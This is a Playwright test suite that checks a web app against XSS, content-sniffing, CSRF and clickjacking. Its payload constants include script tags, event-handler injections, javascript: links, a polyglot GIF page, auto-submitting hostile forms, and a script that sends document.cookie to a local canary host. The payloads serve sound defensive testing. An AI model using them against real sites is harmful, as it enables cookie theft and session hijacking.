"""What strangers put into the house, opened in a real Chromium: no script runs, nothing leaks."""

import json
import uuid

import pytest
from playwright.sync_api import Error, sync_playwright

from browser import CHROMIUM
from canary import Canary
from conftest import ADA, EVE, MIA, password_of, unique
from http_api import ok, part

HIDDEN = 'body { background: url("CANARY/style") }'
SCRIPT = "document.title='RAN';new Image().src='CANARY/ran?'+document.cookie;fetch('CANARY/fetched')"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'onload="{SCRIPT}"><script>{SCRIPT}</script><image xlink:href="CANARY/image" width="9" height="9"/>'
    f'<a xlink:href="javascript:{SCRIPT}"><rect width="99" height="99"/></a></svg>'
)
HTML = (
    f"<!doctype html><title>quiet</title><script>{SCRIPT}</script><style>{HIDDEN}</style>"
    f'<img src=x onerror="{SCRIPT}"><img src="CANARY/image"><iframe src="CANARY/frame"></iframe>'
    f'<link rel=prefetch href="CANARY/prefetch"><object data="CANARY/object"></object>'
    '<meta http-equiv="refresh" content="0;url=CANARY/refresh">'
    '<body onload="document.forms[0].submit()"><form action="CANARY/form"></form>'
)
XHTML = f'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>{SCRIPT}</script></body></html>'
XSLT = (
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="CANARY/sheet"?>'
    f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{SCRIPT}</x:script>'
)
GIF_AND_PAGE = "GIF89a/*" + HTML + "*/=1"

UPLOADS = {
    "an SVG": ("image/svg+xml", SVG),
    "an SVG that calls itself XML": ("text/xml", SVG),
    "an SVG that calls itself PNG": ("image/png", SVG),
    "a page": ("text/html", HTML),
    "a page with a charset": ("text/html; charset=utf-7", HTML),
    "a page that calls itself PNG": ("image/png", HTML),
    "a page that calls itself text": ("text/plain", HTML),
    "a page that says nothing": ("application/octet-stream", HTML),
    "a page of no known type": ("x/y", HTML),
    "XHTML": ("application/xhtml+xml", XHTML),
    "XML with a style sheet": ("application/xml", XSLT),
    "a picture that is a page too": ("image/gif", GIF_AND_PAGE),
    "a page in parts": ("multipart/x-mixed-replace; boundary=b", "--b\r\nContent-Type: text/html\r\n\r\n" + HTML),
    "a type that would add a header": ("text/html\tx", HTML),
}


@pytest.fixture(scope="module")
def chromium():
    """One for the file. `*.test` are hosts that a browser does not trust as it trusts loopback."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=[
                "--no-sandbox",
                "--disable-background-networking",
                "--host-resolver-rules=MAP *.test 127.0.0.1",
            ],
        )
        yield browser
        browser.close()


@pytest.fixture
def context(chromium):
    context = chromium.new_context()
    context.set_default_timeout(20_000)
    yield context
    context.close()


@pytest.fixture(scope="module")
def reader(chromium, server, api):
    """A browser that is signed in, so that there is a cookie to reach for, and may read files."""
    context = chromium.new_context()
    context.set_default_timeout(20_000)
    sign_in_page(context.new_page(), server.base, MIA)
    context.set_extra_http_headers({"Authorization": "Bearer " + api.token})
    yield context
    context.close()


@pytest.fixture(scope="module")
def strange_files(new_dataset):
    return new_dataset()


@pytest.fixture
def canary():
    canary = Canary()
    yield canary
    canary.stop()


def sign_in_page(page, base, email, password=None):
    page.goto(base + "/login")
    page.fill("#email", email)
    page.fill("#password", password or password_of(email))
    page.click("button[type=submit]")
    page.wait_for_url("**/projects")


def upload(api, dataset, path, media_type, content):
    boundary = uuid.uuid4().hex
    body = part(boundary, "type", "file") + part(boundary, "path", path)
    body += (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="f"\r\n'
        f"Content-Type: {media_type}\r\n\r\n{content}\r\n--{boundary}--\r\n"
    ).encode()
    kind = {"Content-Type": f"multipart/form-data; boundary={boundary}"}
    return ok(api.request("POST", f"/datasets/{dataset}/items", data=body, headers=kind))["id"]


# Uploaded files


@pytest.mark.parametrize("what", UPLOADS)
def test_what_was_uploaded_runs_no_script_and_reaches_nothing(
    what, server, api, strange_files, reader, canary
):
    """B-382."""
    media_type, content = UPLOADS[what]
    content = content.replace("CANARY", canary.base)
    item = upload(api, strange_files.id, f"/{what}", media_type, content)
    page = reader.new_page()
    for path in (f"/items/{item}/stream", f"/items/{item}/thumbnail"):
        heads = []
        page.on("response", lambda answer: heads.append(answer.headers))
        try:
            page.goto(server.api + path, wait_until="load")
            assert page.title() != "RAN"
            assert page.evaluate("self.origin") == "null"
        except Error as error:  # Chromium saves what it does not show
            assert "Download is starting" in str(error)
        assert heads[0]["x-content-type-options"] == "nosniff"
        assert heads[0]["content-security-policy"] == "sandbox; default-src 'none'"
        assert canary.paths() == []
    page.close()


def test_the_page_that_is_tried_runs_where_nobody_is_careful(context, canary):
    """Else the tests above would prove nothing."""
    canary.pages["/careless"] = HTML.replace("CANARY", canary.base)
    page = context.new_page()
    with page.expect_request(lambda request: request.url.startswith(canary.base + "/ran")):
        page.goto(canary.base + "/careless", wait_until="commit")


def test_a_stranger_s_file_framed_in_another_page_reaches_nothing_either(
    server, api, new_dataset, context, canary
):
    item = upload(api, new_dataset().id, "/f", "text/html", HTML.replace("CANARY", canary.base))
    canary.pages["/frames"] = f'<iframe src="{server.api}/items/{item}/stream"></iframe>'
    context.set_extra_http_headers({"Authorization": "Bearer " + api.token})
    page = context.new_page()
    page.goto(canary.base + "/frames", wait_until="load")
    assert canary.paths() == []


# Names

NAMES = [
    '"><script>window.ran=1</script>',
    "'><img src=x onerror=window.ran=1>",
    "</title></h1><svg onload=window.ran=1>",
    "javascript:window.ran=1",
    "{{7*7}}${7*7}<!--",
    "\u202egnp.exe\u2066",
]


@pytest.fixture(scope="module")
def named(api, server):
    """A project in which everything is named to do harm; the addresses of its pages."""
    paths = []
    for number, name in enumerate(NAMES):
        project = ok(api.post("/projects", {"name": unique("names")}))["id"]
        dataset = ok(
            api.post("/datasets", {"name": name, "projects": [project], "createDefaultRecipe": True})
        )["id"]
        recipe = ok(api.post("/recipes", {"projectIds": [project], "title": name}))["id"]
        item = upload(api, dataset, "/" + name.replace("/", "") + ".png", "text/html", "x")
        task = ok(
            api.post(
                "/annotationtasks",
                {
                    "name": name,
                    "query": "{}",
                    "projectId": project,
                    "datasetId": dataset,
                    "recipeId": recipe,
                    "taskOwner": MIA,
                    "spec": {"type": "annotation"},
                    "availableActions": [{"action": name}],
                    "workload": [{"assigneeId": MIA, "load": 100}],
                },
            )
        )["spec"]["createdTaskId"]
        status = {"operation": "create", "status": name, "returnLastStatus": True}
        ok(
            api.post(
                f"/assignments/items/tasks/{task}/status",
                {"itemIds": [item], "statusPayload": status},
            )
        )
        (assignment,) = ok(api.get(f"/annotationtasks/{task}"))["assignmentIds"]
        ok(api.patch(f"/assignments/{assignment}", {"name": f"{name} {number}"}))
        of = f"/projects/{project}"
        paths += [
            of,
            f"{of}/tasks",
            f"{of}/tasks/{task}",
            f"{of}/tasks/{task}/assignments/{assignment}",
            f"{of}/datasets",
            f"{of}/datasets/{dataset}/items",
            f"{of}/datasets/{dataset}/items/{item}",
            f"{of}/recipes",
            f"{of}/recipes/{recipe}",
        ]
    (organisation,) = ok(api.get("/orgs"))
    return ["/projects", f"/iam/{organisation['id']}/members", *paths]


def test_names_are_text_on_every_page(server, named, context):
    """B-382."""
    page = context.new_page()
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    blocked = []
    page.on("console", lambda message: blocked.append(message.text))
    sign_in_page(page, server.base, MIA)
    for path in named:
        answer = page.goto(server.base + path)
        assert answer.status == 200, path
        assert page.evaluate("window.ran") is None, path
        strange = page.locator("script, img, [onerror], [onload], svg:not(.mark), a[href^=javascript]")
        assert strange.count() == 0, path
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy and "unsafe" not in policy
        assert "frame-ancestors 'none'" in policy
    assert blocked == []  # the policy had nothing to do: there was no script to begin with
    page.goto(server.base + named[4])  # the first task
    assert NAMES[0] in page.inner_text("h1")


def test_what_a_stranger_types_is_text_on_the_way_back(server, context):
    page = context.new_page()
    for target in (
        "/login?callback=" + "%22%3E%3Cscript%3Ewindow.ran=1%3C/script%3E",
        "/login?next=" + "%22%3E%3Cscript%3Ewindow.ran=1%3C/script%3E",
        "/welcome?token=" + "%22%3E%3Cscript%3Ewindow.ran=1%3C/script%3E",
        "/projects/" + "%3Cscript%3Ewindow.ran=1%3C%2Fscript%3E",
        "/%3Cscript%3Ewindow.ran=1%3C%2Fscript%3E",
        "/api/v1/items/%3Cscript%3Ewindow.ran=1%3C%2Fscript%3E",
    ):
        page.goto(server.base + target)
        assert page.evaluate("window.ran") is None
        assert page.locator("script").count() == 0


# Forms of other sites


def cookie_names(context):
    return {cookie["name"] for cookie in context.cookies()}


@pytest.fixture(params=["127.0.0.1", "house.test"], ids=["at loopback", "by plain http elsewhere"])
def house(request, server):
    """The server's address as the browser has it. Chromium says where a form came from
    (Sec-Fetch-Site) to loopback and by https, and nowhere else."""
    return server.base.replace("127.0.0.1", request.param)


FORM = """<meta name="referrer" content="{policy}">
<form method="post" action="{action}" enctype="{enctype}">{fields}</form>
<script>document.forms[0].submit()</script>"""


def hostile_form(canary, policy, action, enctype="application/x-www-form-urlencoded", **fields):
    canary.pages["/form"] = FORM.format(
        policy=policy,
        action=action,
        enctype=enctype,
        fields="".join(f'<input type="hidden" name="{n}" value="{v}">' for n, v in fields.items()),
    )
    return f"http://stranger.test:{canary.port}/form"


@pytest.mark.parametrize("policy", ["no-referrer", "unsafe-url"])
def test_another_site_signs_nobody_in(house, context, canary, policy):
    """B-384. Else a person works on as the stranger who wrote the form."""
    form = hostile_form(
        canary, policy, house + "/login", email=EVE, password=password_of(EVE)
    )
    page = context.new_page()
    with page.expect_response("**/login") as answer:
        page.goto(form, wait_until="commit")
    assert answer.value.status == 403
    page.wait_for_load_state()
    assert "allot_session" not in cookie_names(context)


@pytest.mark.parametrize("policy", ["no-referrer", "unsafe-url"])
def test_another_site_signs_nobody_out_and_gets_no_tokens(house, context, canary, policy):
    """B-384."""
    page = context.new_page()
    sign_in_page(page, house, ADA)
    form = hostile_form(canary, policy, house + "/logout")
    with page.expect_response("**/logout"):
        page.goto(form, wait_until="commit")
    page.wait_for_load_state()
    page.goto(house + "/projects")
    assert page.locator("text=" + ADA).count() == 1
    callback = f"http://localhost:{canary.port}"
    form = hostile_form(canary, policy, house + "/login", callback=callback, **{"continue": "yes"})
    with page.expect_response("**/login") as answer:
        page.goto(form, wait_until="commit")
    assert answer.value.status in (401, 403)
    page.wait_for_load_state()
    assert canary.paths() == []


def test_the_pages_own_forms_work_wherever_the_server_is(house, context):
    page = context.new_page()
    sign_in_page(page, house, ADA)
    page.click("text=Sign out")
    page.wait_for_url("**/login")
    assert "allot_session" not in cookie_names(context)


def test_no_page_is_framed(house, context, canary):
    page = context.new_page()
    sign_in_page(page, house, ADA)
    canary.pages["/frames"] = f'<iframe src="{house}/login"></iframe><iframe src="{house}/projects"></iframe>'
    page.goto(f"http://stranger.test:{canary.port}/frames", wait_until="load")
    for frame in page.frames[1:]:
        assert frame.locator("form, table").count() == 0


# Tokens


def test_tokens_reach_the_callback_alone_and_by_no_referer(server, context, canary):
    """B-004. The cookie is out of reach of scripts, and the page is not kept."""
    page = context.new_page()
    callback = f"http://localhost:{canary.port}"
    page.goto(f"{server.base}/login?callback={callback}")
    page.fill("#email", ADA)
    page.fill("#password", password_of(ADA))
    page.click("button[type=submit]")
    page.wait_for_url(callback + "/**")
    ((path, referer),) = [visit for visit in canary.visits if "token" in visit[0]]
    assert "id_token=eyJ" in path and referer is None
    (session,) = [cookie for cookie in context.cookies() if cookie["name"] == "allot_session"]
    assert session["httpOnly"] and session["sameSite"] == "Lax"
    page.goto(server.base + "/projects")
    assert "allot_session" not in page.evaluate("document.cookie")


def test_the_cookie_of_the_pages_opens_no_call(server, context):
    """So a form of another site can change nothing through the API."""
    page = context.new_page()
    sign_in_page(page, server.base, MIA)
    answer = page.goto(server.api + "/users/me")
    assert answer.status == 401
    assert json.loads(answer.text())["error"] == "unauthorized"
